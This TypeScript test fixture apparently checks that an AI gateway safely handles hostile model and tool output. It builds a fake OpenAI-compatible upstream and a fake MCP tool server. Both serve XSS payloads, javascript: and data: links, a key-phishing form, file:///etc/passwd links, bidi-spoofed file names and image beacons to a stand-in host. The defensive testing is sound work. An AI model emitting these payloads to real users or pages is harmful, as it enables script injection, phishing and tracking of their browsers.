import { emulateOpenai, frame } from '../../src/providers/openai-compatible/emulator/index.ts'
import type { Script } from '../../src/wire/emulator/script.ts'
import { sseData } from '../../src/wire/sse.ts'
import { emulateMcp } from '../tools/emulated-mcp.ts'

/** A server that nobody may ask. Texts name it in every way that makes a browser ask for something. */
const beacon = 'beacon.example'
const run = 'window.owned=1'

/** One line each: HTML, scripts, pictures, links and marks that change the direction of a text. */
export const hostileTexts = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}"><img src="http://${beacon}/image.png">`,
  `<svg onload="${run}"><image href="//${beacon}/svg.png"/><a xlink:href="javascript:${run}">a</a></svg>`,
  `<iframe src="//${beacon}/frame"></iframe><object data="//${beacon}/object"></object><embed src="//${beacon}/embed">`,
  `<style>@import url(//${beacon}/style); body { display: none }</style><link rel="stylesheet" href="//${beacon}/link">`,
  `<meta http-equiv="refresh" content="0;url=//${beacon}/refresh"><base href="//${beacon}/">`,
  `<form action="//${beacon}/form"><input name="key" autofocus onfocus="${run}"><button>Enter your key</button></form>`,
  `<details open ontoggle="${run}"><video src="//${beacon}/video" autoplay></video>`,
  `</textarea></title></script><script>${run}</script>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `http://${beacon}/plain and www.${beacon}`,
  'invoice\u202egpj.exe \u2066isolate\u2069 \u200fright\u200e',
  'a\u0000b\u001b[31mred\u0007 \ud83d half',
] as const

/** The same in Markdown, with what only Markdown has. */
export const hostileMarkdown = [
  '# The end of the answer',
  ...hostileTexts,
  `[a link](javascript:${run}) [another](JaVaScRiPt&colon;${run}) [third](<java\tscript:${run}>) [fourth](vbscript:${run})`,
  `[data](data:text/html;base64,${btoa(`<script>${run}</script>`)}) [file](file:///etc/passwd) [own](/admin/keys) [none]()`,
  `![picture](http://${beacon}/markdown.png) ![own](/console/some.js) ![svg](data:image/svg+xml,<svg/onload=${run}>)`,
  `<http://${beacon}/auto> https://${beacon}/bare [reference][x] ![reference][x]`,
  `[x]: javascript:${run} "title"`,
  '',
  `| a | <img src=x onerror="${run}"> |\n|---|---|\n| [b](javascript:${run}) | ![c](//${beacon}/cell.png) |`,
  '',
  `- [ ] <b onmouseover="${run}">task</b>`,
  `> quote ![d](//${beacon}/quote.png)`,
  '',
  '```html" onmouseover="window.owned=1',
  `<script>${run}</script>`,
  '```',
  '\u202eThis line runs backwards.',
].join('\n')

/** Models of the hostile upstream. Their names are texts of others too. */
export const evilModels = {
  answer: 'answers',
  cut: 'breaks-off',
  refuse: 'refuses',
  call: 'calls',
  named: `<img src=x onerror="${run}">\u202egpj`,
} as const

const id = 'chatcmpl-evil'

function chunk(model: string, delta: object, finish: string | null = null): string {
  const choices = [{ index: 0, delta, finish_reason: finish }]
  return frame({ id, object: 'chat.completion.chunk', created: 1, model, choices })
}

/** How the upstream answers a model. */
function scriptFor(model: string): Script {
  const words = hostileMarkdown.match(/[\s\S]{1,40}/g) ?? []
  const ending = [sseData('[DONE]')]
  if (model === evilModels.cut)
    return { body: words.slice(0, 20).map((content) => chunk(model, { content })), ending: 'rst', endDelayMs: 50 }
  if (model === evilModels.refuse) {
    const message = hostileTexts.join(' ')
    const error = JSON.stringify({ error: { message, type: hostileTexts[0], code: hostileTexts[1], param: null } })
    return { status: 400, headers: { 'content-type': 'application/json' }, body: [error] }
  }
  if (model === evilModels.call) {
    const call = { name: 'lookup', arguments: JSON.stringify({ text: hostileTexts.join('\n') }) }
    const calls = { tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: call }] }
    return { body: [chunk(model, calls), chunk(model, {}, 'tool_calls'), ...ending] }
  }
  const thoughts = words.map((reasoning_content) => chunk(model, { reasoning_content }))
  return {
    body: [...thoughts, ...words.map((content) => chunk(model, { content })), chunk(model, {}, 'stop'), ...ending],
  }
}

/** A hostile upstream and a hostile tool server, and the variables with which a gateway uses them. */
export interface Evil extends AsyncDisposable {
  readonly variables: Readonly<Record<string, string>>
}

export async function startEvil(): Promise<Evil> {
  const models = Object.values(evilModels)
  const openai = await emulateOpenai({ models, reply: ({ model, stream }) => (stream ? scriptFor(model) : undefined) })
  const tools = await startTools()
  return {
    variables: {
      UPSTREAM_EVIL_URL: openai.url,
      UPSTREAM_EVIL_KEY: 'sk-evil-0123456789abcdef',
      MCP_SERVERS: JSON.stringify({ mcpServers: { evil: { url: `${tools.origin}/mcp` } } }),
      RECORD_PROMPTS: 'true',
    },
    async [Symbol.asyncDispose]() {
      await Promise.all([openai.close(), tools.close()])
    },
  }
}

/** The only tool's description, parameters and results are hostile. A picture that it gives is no picture. */
function startTools() {
  const answer = (number: number, result: object) => JSON.stringify({ jsonrpc: '2.0', id: number, result })
  const json = { 'content-type': 'application/json' }
  const text = hostileTexts.join('\n')
  const properties = {
    text: { type: 'string', title: hostileTexts[1], description: text, default: hostileTexts[0] },
    [hostileTexts[1]]: { type: 'string', enum: [...hostileTexts] },
    [hostileTexts[2]]: { type: 'object', description: text, properties: { __proto__: { type: 'string' } } },
  }
  const inputSchema = { type: 'object', title: hostileTexts[0], properties, required: ['text'] }
  return emulateMcp({
    list: (exchange, number) =>
      exchange.reply(
        200,
        answer(number, { tools: [{ name: 'a', title: hostileTexts[1], description: text, inputSchema }] }),
        json,
      ),
    call: (exchange, number) =>
      exchange.reply(
        200,
        answer(number, {
          content: [
            { type: 'text', text },
            {
              type: 'image',
              mimeType: 'image/svg+xml',
              data: btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`),
            },
            { type: 'image', mimeType: `text/html" onerror="${run}`, data: btoa(`<script>${run}</script>`) },
            { type: 'resource_link', uri: `javascript:${run}`, name: hostileTexts[1] },
          ],
          structuredContent: { [hostileTexts[1]]: hostileTexts },
        }),
        json,
      ),
  })
}
